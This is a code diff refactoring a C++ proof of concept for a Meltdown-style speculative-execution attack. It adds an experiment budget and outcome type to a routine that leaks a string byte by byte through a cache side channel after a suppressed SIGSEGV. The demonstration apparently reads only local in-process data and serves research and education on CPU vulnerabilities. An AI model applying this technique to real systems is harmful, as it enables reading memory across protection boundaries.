@@ -29,6 +29,7 @@
 #include <unistd.h>
 
 #include "cache_sidechannel.h"
+#include "experiment.h"
 #include "instr.h"
 #include "local_content.h"
 #include "meltdown_local_content.h"
@@ -46,11 +47,13 @@ char *private_page = nullptr;
  * offset of that page is still speculatively used before the fault is
  * triggered.
  **/
-static char LeakByte(size_t offset) {
-  CacheSideChannel sidechannel;
+static ExperimentOutcome LeakByte(CacheSideChannel &sidechannel, size_t offset,
+                                  const ExperimentBudget &budget) {
+  sidechannel.ResetScores();
   const std::array<BigByte, 256> &oracle = sidechannel.GetOracle();
 
-  for (int run = 0;; ++run) {
+  ExperimentLoop loop(budget);
+  while (true) {
     sidechannel.FlushOracle();
 
     for (int i = 0; i < 256; ++i) {
@@ -83,18 +86,14 @@ static char LeakByte(size_t offset) {
 
     std::pair<bool, char> result = sidechannel.AddHitAndRecomputeScores();
 
-    if (result.first) {
-      return result.second;
-    }
-
-    if (run > 100000) {
-      std::cerr << "Does not converge " << result.second << std::endl;
-      exit(EXIT_FAILURE);
+    if (loop.Done(result)) {
+      return loop.Finish(sidechannel);
     }
   }
 }
 
 int main() {
+  CacheSideChannel sidechannel;
   OnSignalMoveRipToAfterspeculation(SIGSEGV);
   private_page = reinterpret_cast<char *>(mmap(nullptr, kPageBytes,
       PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0));
@@ -102,7 +101,12 @@ int main() {
   std::cout << "Leaking the string: ";
   std::cout.flush();
   for (size_t i = 0; i < strlen(private_data); ++i) {
-    std::cout << LeakByte(i);
+    ExperimentOutcome outcome = LeakByte(sidechannel, i, ExperimentBudget());
+    if (!outcome.converged) {
+      std::cerr << "Does not converge " << outcome.value << std::endl;
+      exit(EXIT_FAILURE);
+    }
+    std::cout << outcome.value;
     std::cout.flush();
   }
   munmap(private_page, kPageBytes);